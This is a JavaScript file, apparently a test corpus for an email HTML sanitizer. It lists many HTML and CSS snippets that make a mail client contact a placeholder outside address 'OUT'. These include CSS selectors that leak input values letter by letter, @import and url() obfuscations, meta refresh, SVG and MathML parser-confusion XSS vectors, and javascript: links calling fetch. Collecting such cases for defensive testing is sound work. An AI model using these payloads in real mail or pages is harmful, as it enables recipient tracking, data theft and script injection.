// Ways in which a mail's HTML may try to make a browser ask somebody for something. OUT is an address of "the world".

const css = (rules, body = '<p class="a">x</p>') => `<style>${rules}</style>${body}`;
const each = (declarations) => css(declarations.map((d, i) => `.a${i}{${d}}`).join(''), declarations.map((_, i) => `<p class="a${i}">x</p>`).join(''));

export const STYLES = [
    // What is typed, or stands in a page, told letter by letter.
    css('input[value^="a"]{background:url(OUT?a)} input[value$="z"]{background:url(OUT?z)} a[href*="x"]{background:url(OUT?x)}', '<input value="abcz"><a href="https://x.example/x">x</a>'),
    css('@font-face{font-family:f;src:local("none"),url(OUT) format("woff");unicode-range:U+0078} p{font-family:f} p::first-letter{font-family:f}'),
    css('@font-face{font-family:g;src:url(OUT)} ::selection{font-family:g} ::marker{content:url(OUT)} ::before,::after{content:url(OUT) / "x"} ::first-line{background:url(OUT)}'),
    css('@import "OUT"; @import url("OUT") layer(x) supports(display: grid) screen;'), css('@\\69mport "OUT"; @IMPORT url(OUT);'),
    css('@charset "utf-8"; @import/**/url(OUT);'), css('@namespace url(OUT); @namespace s url(OUT); s|p{background:url(OUT)} *|p{background:url(OUT)}'),
    css('@media all{p{background:url(OUT)}} @media print{p{background:url(OUT)}} @supports (display:block){p{background:url(OUT)}} @layer l{p{list-style:url(OUT)}}'),
    css('@keyframes k{from{background:url(OUT)}to{background:url(OUT)}} p{animation:k 1ms infinite}'), css('@page{background:url(OUT)} @page:first{@top-left{content:url(OUT)}}'),
    css('@counter-style c{system:cyclic;symbols:url(OUT) "x"} ul{list-style:c} li::marker{content:url(OUT)}', '<ul><li>x</ul>'),
    css('@property --u{syntax:"<url>";inherits:true;initial-value:url(OUT)} p{background:var(--u)} :root{--v:url(OUT)} b{background:var(--none,url(OUT))}', '<p>x</p><b>x</b>'),
    css('@container (min-width:1px){p{background:url(OUT)}} body{container-type:inline-size} @scope (body){p{background:url(OUT)}} @starting-style{p{background:url(OUT)}}'),
    css('p:hover{cursor:url(OUT),auto;background:url(OUT)} p{cursor:url(OUT) 2 2,url(OUT),auto} :focus{background:url(OUT)} :visited{background:url(OUT)}', '<p tabindex=0>x</p>'),
    css('html{background:url(OUT)} body{background:url(OUT)} p{&{background:url(OUT)} &:is(p){background:url(OUT)}}'),
    css('p{background:URL(OUT);background:ur\\l(OUT);background:\\75\\72\\6c(OUT);background:url( "OUT" );background:url(\n OUT\n)}'),
    css('</style><img src="OUT"><style>'), css('/*</style><img src="OUT">*/'), css('p{background:url(/**/OUT);background:url("//OUT")}'),
    '<style media="print">@import "OUT";</style><style type="text/css" title="x">@import "OUT";</style><svg><style>@import "OUT";</style></svg>',
    each(['background-image:image-set("OUT" 1x, "OUT" 2x type("image/png"))', 'background:-webkit-image-set(url(OUT) 1x)', 'background:cross-fade(url(OUT),url(OUT),50%)',
        'background:-webkit-cross-fade(url(OUT),url(OUT),.5)', 'border-image:url(OUT) 1', 'border-image-source:url(OUT)', '-webkit-border-image:url(OUT) 1', 'mask:url(OUT)',
        '-webkit-mask:url(OUT)', '-webkit-mask-box-image:url(OUT)', 'mask-image:url(OUT#m)', 'filter:url(OUT#f)', 'backdrop-filter:url(OUT#f)', 'clip-path:url(OUT#c)',
        'shape-outside:url(OUT);float:left', 'offset-path:url(OUT#p)', 'list-style:url(OUT);display:list-item', 'content:url(OUT)', 'cursor:image-set(url(OUT) 1x),auto',
        'fill:url(OUT#g);stroke:url(OUT#g)', 'marker:url(OUT#m)', 'behavior:url(OUT)', '-moz-binding:url(OUT#b)', 'background:src("OUT")', 'background:image("OUT")',
        'background:element(#OUT)', 'background:attr(class url)', 'src:url(OUT)', 'background:#fff url(OUT),url(OUT)', 'background-image:linear-gradient(red,red),url(OUT)']),
    '<p style="background:url(OUT)">x</p><p style="background-image:\\75 rl(OUT)">x</p><p style="--x:url(OUT);background:var(--x)">x</p><font style="list-style:url(OUT);display:list-item">x</font>',
];

export const MARKUP = [
    '<base href="OUT/"><img src="a.png"><link rel="stylesheet" href="b.css"><p style="background:url(c.png)">x</p>', '<base target="_parent" href="OUT"><a href="x">x</a>',
    '<meta http-equiv="refresh" content="0;url=OUT"><meta http-equiv="refresh" content="0; URL=\'OUT\'"><meta http-equiv="Refresh" content="0 OUT">',
    '<meta http-equiv="Content-Security-Policy" content="img-src https:; report-uri OUT"><meta http-equiv="Content-Security-Policy-Report-Only" content="default-src \'none\'; report-uri OUT"><img src="OUT">',
    '<meta http-equiv="Link" content="<OUT>; rel=preload; as=image"><meta http-equiv="x-dns-prefetch-control" content="on"><a href="OUT">x</a>',
    ...['stylesheet', 'alternate stylesheet', 'preload" as="image', 'preload" as="script', 'preload" as="font" crossorigin="', 'prefetch', 'dns-prefetch', 'preconnect', 'preconnect" crossorigin="',
        'prerender', 'modulepreload', 'manifest', 'icon', 'apple-touch-icon', 'mask-icon', 'search', 'pingback', 'next', 'import', 'compression-dictionary', 'expect']
        .map((rel) => `<link rel="${rel}" href="OUT">`), '<link rel="preload" as="image" imagesrcset="OUT 1x" imagesizes="1px"><link rel="stylesheet" href="data:text/css,@import%20url(OUT)">',
    '<script type="speculationrules">{"prefetch":[{"urls":["OUT"]}],"prerender":[{"urls":["OUT"]}]}</script><script type="importmap">{"imports":{"a":"OUT"}}</script>',
    '<img srcset="OUT 1x, OUT 2x" sizes="1px" src="data:image/png;base64,"><img src="cid:x@y" srcset="OUT">', '<img loading="lazy" src="OUT"><img crossorigin src="OUT"><img decoding="sync" fetchpriority="high" src=" OUT">',
    '<img src="&#9;OUT"><img src="&#x01;OUT"><img/src="OUT"><image src="OUT"><img src=OUT>', '<img src="data:image/png;base64," attributionsrc="OUT"><a href="https://x.example/" attributionsrc="OUT">x</a>',
    '<picture><source media="all" srcset="OUT"><source type="image/png" srcset="OUT 1x"><img src="OUT"></picture>', '<img src="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\'><image href=\'OUT\'/></svg>">',
    '<video src="OUT" poster="OUT" autoplay muted></video><video autoplay muted><source src="OUT"><track default kind="captions" src="OUT"></video>', '<audio src="OUT" autoplay preload="auto"></audio><audio><source src="OUT"></audio>',
    '<body background="OUT"><table background="OUT"><thead background="OUT"><tr background="OUT"><th background="OUT"><td background="OUT">x</table>', '<a href="OUT" ping="OUT OUT">x</a><map name="m"><area href="OUT" ping="OUT" shape="default"></map>',
    '<form action="OUT"><input type="submit" formaction="OUT"><button formaction="OUT" formmethod="post">x</button><input type="image" src="OUT" formaction="OUT"></form><isindex action="OUT">',
    '<iframe srcdoc="<img src=OUT>"></iframe><iframe src="data:text/html,<img src=OUT>"></iframe><iframe src="OUT" loading="eager"></iframe><iframe src="about:blank" csp="report-uri OUT"></iframe>',
    '<frameset><frame src="OUT"></frameset>', '<portal src="OUT"></portal><fencedframe src="OUT"></fencedframe><webview src="OUT"></webview>', '<object data="OUT" type="text/html"><param name="movie" value="OUT"></object><embed src="OUT"><applet archive="OUT" codebase="OUT" code="x">',
    '<svg><use href="OUT#x"/><use xlink:href="OUT#x"/><image href="OUT"/><image xlink:href="OUT"/><feImage href="OUT"/><script href="OUT"/></svg>',
    '<svg><filter id="f"><feImage xlink:href="OUT"/></filter><rect filter="url(#f)" fill="url(OUT#g)" mask="url(OUT#m)" width="9" height="9"/><textPath href="OUT#p">x</textPath></svg>',
    '<svg><image><set attributeName="href" to="OUT"/><animate attributeName="href" values="OUT"/></image><foreignObject><img src="OUT"></foreignObject><mpath href="OUT"/><pattern href="OUT#p"/></svg>',
    '<svg><a><image href="data:image/svg+xml,<svg/>"/><animate attributeName="xlink:href" to="OUT"/></a><handler>x</handler><discard href="OUT"/></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=OUT&gt;">', '<math href="OUT"><mi xlink:href="OUT">x</mi><annotation-xml encoding="text/html"><img src="OUT"></annotation-xml></math>',
    '<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img src=OUT>">', '<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src=OUT>">',
    '<svg></p><style><a id="</style><img src=OUT>">', '<svg><desc><template><style></template></desc></svg><img src="OUT">', '<noscript><style></noscript><img src="OUT">', '<xmp><p title="</xmp><img src=OUT>">', '<noembed><img title="</noembed><img src=OUT>"></noembed>',
    '<template shadowrootmode="open"><img src="OUT"><style>@import "OUT";</style></template>', '<div><template shadowroot="open" shadowrootmode="open" shadowrootclonable><link rel="stylesheet" href="OUT"></template></div>',
    '<select><template><img src="OUT"></template><style></select><img src="OUT">', '<plaintext><img src="OUT">', '<title><a title="</title><img src=OUT>"></title>', '<!--><img src="OUT">-->', '<![CDATA[><img src="OUT">]]>', '<?xml-stylesheet href="OUT"?><!DOCTYPE x SYSTEM "OUT">',
    '<bgsound src="OUT"><sound src="OUT"><layer src="OUT"></layer><ilayer src="OUT"></ilayer><xml src="OUT"></xml><img lowsrc="OUT" dynsrc="OUT" longdesc="OUT">', '<html manifest="OUT"><head profile="OUT"><body onload="fetch(\'OUT\')">x', '<blockquote cite="OUT">x</blockquote><del cite="OUT">x</del><q cite="OUT">x</q>',
    '<img src="https:OUT"><img src="\\\\OUT"><img src="//OUT"><img src="/\\OUT">', '<input type="image" src="OUT"><button><img src="OUT"></button><label><object data="OUT"></label>', '<style>*{}</style\t><img src="OUT"></style>', '<div popover="auto" style="background:url(OUT)">x</div><dialog open style="background:url(OUT)">x</dialog>',
    '<a href="javascript:fetch(\'OUT\')" id="j">x</a><a href="java&#10;script:fetch(\'OUT\')">x</a><a href="&#1;javascript:fetch(\'OUT\')">x</a><a href="data:text/html,<img src=OUT>">x</a><a href="vbscript:x">x</a>',
];
